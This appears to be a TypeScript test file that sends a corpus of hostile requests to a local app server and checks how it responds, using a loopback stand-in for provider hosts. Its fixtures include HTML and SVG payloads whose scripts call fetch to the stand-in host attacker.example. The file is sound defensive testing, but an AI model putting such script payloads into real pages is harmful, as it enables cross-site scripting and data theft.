/**
 * The hostile request corpus: every file in test/hostile/requests/ is one request an attacker could
 * send to `npm start`'s server (from another site's page, a rebound DNS name, a link, a provider
 * answer), and what must hold for it. Each runs against a freshly started server in its own
 * process, its proxy pointed at a loopback stand-in for every provider host; after each, the server
 * must still be running and serving the app. The corpus grows by adding files (README, "Security").
 */
import { spawn, type ChildProcess } from 'node:child_process'
import { readdirSync, readFileSync } from 'node:fs'
import { createServer, request as httpRequest, type IncomingHttpHeaders, type Server } from 'node:http'
import { mkdtemp, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { pathToFileURL } from 'node:url'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { z } from 'zod'
import { projectRoot } from '../../scripts/dist.mjs'

const CASES_DIR = join(projectRoot, 'test', 'hostile', 'requests')

const headerList = z.array(z.string().toLowerCase()).default([])

const caseSchema = z
  .object({
    about: z.string().min(1),
    request: z
      .object({
        method: z.string().default('GET'),
        /** Sent exactly as written; `{port}` is the server's port. */
        target: z.string().min(1),
        /** `{port}` and `{origin}` (the app's own, http://localhost:PORT) are filled in; `host` defaults to localhost:PORT. */
        headers: z.record(z.string(), z.string()).default({}),
        body: z.string().optional(),
      })
      .strict(),
    expect: z
      .object({
        status: z.array(z.number().int()).min(1),
        /** Response headers that must have exactly these values. */
        headers: z.record(z.string(), z.string()).default({}),
        /** Words the response's Content-Type must not contain. */
        contentTypeNot: z.array(z.string()).default([]),
        bodyExcludes: z.array(z.string()).default([]),
        /** What the stand-in upstream must (not) have been asked, by path, and with which headers. */
        upstream: z
          .array(z.object({ path: z.string(), reached: z.boolean().default(true), without: headerList, with: headerList }).strict())
          .default([]),
      })
      .strict(),
  })
  .strict()
type HostileRequest = z.infer<typeof caseSchema>

/** Every provider host the cases name, each pointed at the stand-in (so nothing leaves this machine). */
const STANDED_IN_HOSTS = [
  'api.dev.runwayml.com',
  'api.replicate.com',
  'api.elevenlabs.io',
  'generativelanguage.googleapis.com',
  'dnznrvs05pmza.cloudfront.net',
  'd111111abcdef8.cloudfront.net',
  'v3.fal.media',
  'replicate.delivery',
  'storage.cdn-luma.com',
  'cdn.klingai.com',
  'storage.googleapis.com',
  'attacker.example',
]

const HOSTILE_PAGE = '<!doctype html><script>indexedDB.open("reelgraph");fetch("https://attacker.example/?k=")</script>'

interface Seen {
  path: string
  headers: IncomingHttpHeaders
}

/** The stand-in for every provider host: what it answers depends on the path alone. */
function standIn(seen: Seen[]): Server {
  return createServer((request, response) => {
    request.resume()
    const url = new URL(request.url ?? '/', 'http://stand-in')
    seen.push({ path: url.pathname, headers: request.headers })
    if (url.pathname === '/redirect') return void response.writeHead(Number(url.searchParams.get('status') ?? 302), { Location: url.searchParams.get('to') ?? '/' }).end()
    if (url.pathname === '/loop') return void response.writeHead(302, { Location: '/loop' }).end()
    if (url.pathname.endsWith('.html')) return void response.writeHead(200, { 'Content-Type': 'text/html; charset=utf-8' }).end(HOSTILE_PAGE)
    if (url.pathname.endsWith('.xhtml')) return void response.writeHead(200, { 'Content-Type': 'application/xhtml+xml' }).end(`<html xmlns="http://www.w3.org/1999/xhtml">${HOSTILE_PAGE}</html>`)
    if (url.pathname.endsWith('.svg')) return void response.writeHead(200, { 'Content-Type': 'image/svg+xml' }).end('<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("https://attacker.example/")</script></svg>')
    if (url.pathname.endsWith('.mp4')) return void response.writeHead(200, { 'Content-Type': 'video/mp4' }).end(Buffer.from('0000001866747970', 'hex'))
    if (url.pathname === '/no-type') return void response.end(HOSTILE_PAGE)
    response.writeHead(200, { 'Content-Type': 'application/json' }).end('{"ok":true}')
  })
}

/** Starts `npm start`'s server in a process of its own; resolves with it and its port. */
async function startServer(root: string, upstreams: Record<string, string>): Promise<{ child: ChildProcess; port: number }> {
  const program = `const { serveStatic } = await import(process.env.SERVE_MODULE)
const served = await serveStatic({ root: process.env.SERVE_ROOT, upstreams: JSON.parse(process.env.SERVE_UPSTREAMS) })
console.log('port ' + served.port)`
  const child = spawn(process.execPath, ['--input-type=module', '-e', program], {
    env: { ...process.env, SERVE_MODULE: pathToFileURL(join(projectRoot, 'scripts', 'serve.mjs')).href, SERVE_ROOT: root, SERVE_UPSTREAMS: JSON.stringify(upstreams) },
    stdio: ['ignore', 'pipe', 'inherit'],
  })
  const port = await new Promise<number>((resolve, reject) => {
    child.stdout?.on('data', (chunk: Buffer) => {
      const match = /port (\d+)/.exec(chunk.toString())
      if (match) resolve(Number(match[1]))
    })
    child.on('exit', (code) => reject(new Error(`the server exited (${code}) before it listened`)))
  })
  return { child, port }
}

interface Answer {
  status: number
  headers: IncomingHttpHeaders
  body: string
}

function send(port: number, { method, target, headers, body }: HostileRequest['request']): Promise<Answer> {
  const fill = (text: string) => text.replaceAll('{port}', String(port)).replaceAll('{origin}', `http://localhost:${port}`)
  const filled = Object.fromEntries(Object.entries({ host: 'localhost:{port}', ...headers }).map(([name, value]) => [name, fill(value)]))
  return new Promise((resolve, reject) => {
    const outgoing = httpRequest({ host: '127.0.0.1', port, method, path: fill(target), headers: filled, setHost: false }, (incoming) => {
      let text = ''
      incoming.on('data', (chunk: Buffer) => (text += chunk.toString()))
      incoming.on('end', () => resolve({ status: incoming.statusCode ?? 0, headers: incoming.headers, body: text }))
    })
    outgoing.on('error', reject)
    outgoing.end(body)
  })
}

const cases = readdirSync(CASES_DIR)
  .filter((name) => name.endsWith('.json'))
  .sort()
  .map((name) => [name, caseSchema.parse(JSON.parse(readFileSync(join(CASES_DIR, name), 'utf8')))] as const)

describe('hostile requests to the server', () => {
  const seen: Seen[] = []
  let upstream: Server
  let server: { child: ChildProcess; port: number }
  let root: string
  let exit: string | undefined

  beforeAll(async () => {
    root = await mkdtemp(join(tmpdir(), 'reelgraph-hostile-'))
    await writeFile(join(root, 'index.html'), '<!doctype html><title>Reelgraph</title>')
    upstream = standIn(seen)
    await new Promise<void>((resolve) => upstream.listen(0, '127.0.0.1', resolve))
    const address = upstream.address()
    const origin = `http://127.0.0.1:${typeof address === 'object' && address ? address.port : 0}`
    server = await startServer(root, Object.fromEntries(STANDED_IN_HOSTS.map((host) => [host, origin])))
    server.child.on('exit', (code, signal) => (exit = `the server exited (${code ?? signal})`))
  })

  afterAll(async () => {
    server.child.kill()
    await new Promise((resolve) => upstream.close(resolve))
    await rm(root, { recursive: true, force: true })
  })

  it('has cases', () => {
    expect(cases.length).toBeGreaterThanOrEqual(15)
  })

  it.each(cases)('%s', async (_name, hostile) => {
    seen.length = 0
    const answer = await send(server.port, hostile.request)
    expect(hostile.expect.status, hostile.about).toContain(answer.status)
    for (const [name, value] of Object.entries(hostile.expect.headers)) expect(answer.headers[name.toLowerCase()], name).toBe(value)
    for (const word of hostile.expect.contentTypeNot) expect(answer.headers['content-type'] ?? '').not.toContain(word)
    for (const text of hostile.expect.bodyExcludes) expect(answer.body).not.toContain(text)
    for (const { path, reached, without, with: carried } of hostile.expect.upstream) {
      const asked = seen.filter((request) => request.path === path)
      expect(asked.length > 0, `${path} ${reached ? 'was not' : 'was'} asked`).toBe(reached)
      for (const request of asked) {
        for (const name of without) expect(request.headers[name], `${path} was sent ${name}`).toBeUndefined()
        for (const name of carried) expect(request.headers[name], `${path} was not sent ${name}`).toBeDefined()
      }
    }
    // Whatever came before, the server is still there and still serves the app.
    expect(exit).toBeUndefined()
    const page = await send(server.port, { method: 'GET', target: '/', headers: {} })
    expect(page.status).toBe(200)
    expect(page.body).toContain('Reelgraph')
  })
})
